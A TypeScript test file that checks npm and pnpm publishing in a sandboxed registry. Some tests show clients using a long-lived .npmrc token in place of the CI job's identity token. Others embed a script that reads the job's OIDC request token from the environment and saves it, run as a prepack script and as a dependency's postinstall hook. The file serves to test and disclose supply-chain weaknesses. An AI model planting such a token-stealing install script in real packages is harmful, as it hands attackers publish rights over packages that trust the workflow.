// SPDX-License-Identifier: Apache-2.0
// The ways in which npm publishes with a token that outlives the job although the job has an identity: each open with the client alone.
import t from 'tap'
import type { Test } from 'tap'
import { readFile, rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { credentialsBelongTo } from '../redaction/channels.ts'
import { missing } from '../support/clients.ts'
import type { ClientName } from '../support/clients.ts'
import { gitProgram } from '../support/git.ts'
import { openReleaseScene, trustWorkflow } from './release-scene.ts'
import type { Checkout, ReleaseScene } from './release-scene.ts'

const PUBLISH: Readonly<Partial<Record<ClientName, readonly string[]>>> = {
  npm: ['publish'],
  'npm-11': ['publish'],
  pnpm: ['publish', '--no-git-checks'],
}

/** A way in which a client passes over the identity of its job. */
interface Hole {
  readonly title: string
  readonly clients: readonly ClientName[]
  /** Whether the registry trusts the workflow, so that there would be a token of an hour. */
  readonly isTrusted: boolean
  /** The user's .npmrc and fields of package.json, for a registry's host and a token. */
  readonly npmrc?: (host: string, token: string) => string
  readonly manifest?: (host: string, token: string) => object
}

const HOLES: readonly Hole[] = [
  {
    title: 'the exchange fails, and the token in .npmrc is used without a word',
    clients: ['npm', 'npm-11', 'pnpm'],
    isTrusted: false,
    npmrc: (host, token) => `//${host}/:_authToken=${token}\n`,
  },
  {
    title: 'a key for the package beats the token of the exchange',
    clients: ['npm', 'npm-11'],
    isTrusted: true,
    npmrc: (host, token) => `//${host}/@acme%2frocket:_authToken=${token}\n`,
  },
  {
    title: 'a key for the package in publishConfig beats it too',
    clients: ['npm', 'npm-11'],
    isTrusted: true,
    manifest: (host, token) => ({
      publishConfig: { access: 'public', [`//${host}/@acme%2frocket:_authToken`]: token },
    }),
  },
]

let releases = 0

async function scene(check: Test, { isTrusted }: Pick<Hole, 'isTrusted'>): Promise<ReleaseScene> {
  const one = await openReleaseScene()
  check.teardown(() => one.close())
  await one.sandbox.publish({ name: '@acme/rocket', version: '1.0.0' })
  if (isTrusted) trustWorkflow(one.sandbox)
  return one
}

/** A checkout in which a hole is. */
async function holed(one: ReleaseScene, hole: Hole, token: string, more: object = {}): Promise<Checkout> {
  const { host } = new URL(one.sandbox.registryUrl)
  releases += 1
  await writeFile(join(one.home, '.npmrc'), hole.npmrc?.(host, token) ?? '')
  return one.checkout(`1.${releases}.0`, { ...hole.manifest?.(host, token), ...more })
}

const skip = gitProgram === undefined && 'no git'

for (const hole of HOLES) {
  await t.test(hole.title, { skip }, async (check) => {
    const one = await scene(check, hole)
    const token = one.longLived()
    for (const client of hole.clients) {
      await check.test(client, { skip: missing(client) }, async (test) => {
        const open = await holed(one, hole, token)
        const sent = await one.sentBy(async () => {
          const ran = await one.run(client, open.folder, PUBLISH[client] ?? [], one.job(open))
          test.equal(ran.code, 0, `${client} alone says that all is well\n${ran.stderr}`)
        })
        test.strictSame(
          sent.map(({ authorization }) => authorization === `Bearer ${token}`),
          [true],
          'open',
        )
      })
    }
  })
}

// What a script writes that sees the job's variables: with it, anybody gets tokens for every package that trusts the workflow.
const THIEF = `const { ACTIONS_ID_TOKEN_REQUEST_TOKEN: token = 'nothing' } = process.env
require('node:fs').writeFileSync(process.env.LOOT, token)
`

await t.test('a script beside the identity steals it', { skip }, async (check) => {
  const one = await scene(check, { isTrusted: true })
  const loot = join(one.root, 'loot')
  // What the attacker's script writes is the point.
  credentialsBelongTo(loot)
  await check.test('its own prepack, by npm alone: stolen', async (test) => {
    const checkout = await one.checkout('2.0.0', { scripts: { prepack: 'node thief.js' } }, { 'thief.js': THIEF })
    const job = one.job(checkout)
    const ran = await one.run('npm', checkout.folder, ['publish'], { ...job, LOOT: loot })
    test.equal(ran.code, 0, ran.stderr)
    test.equal(await readFile(loot, 'utf8'), job['ACTIONS_ID_TOKEN_REQUEST_TOKEN'])
  })

  await check.test('the postinstall of a dependency, by npm ci in the same job: stolen', async (test) => {
    const scripts = { postinstall: 'node thief.js' }
    const { integrity } = await one.sandbox.publish({
      name: 'dropper',
      version: '4.2.1',
      manifest: { scripts },
      files: { 'thief.js': THIEF },
    })
    const dependencies = { dropper: '4.2.1' }
    const lock = {
      name: '@acme/rocket',
      version: '2.1.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: '@acme/rocket', version: '2.1.0', license: 'MIT', dependencies },
        'node_modules/dropper': { version: '4.2.1', integrity, hasInstallScript: true },
      },
    }
    const checkout = await one.checkout('2.1.0', { dependencies }, { 'package-lock.json': JSON.stringify(lock) })
    const job = one.job(checkout)
    await rm(loot)
    // npm 12 runs the scripts that the project allows, npm 11 all.
    const ran = await one.run('npm-11', checkout.folder, ['ci'], { ...job, LOOT: loot })
    test.equal(ran.code, 0, ran.stderr)
    test.equal(await readFile(loot, 'utf8'), job['ACTIONS_ID_TOKEN_REQUEST_TOKEN'])
  })
})
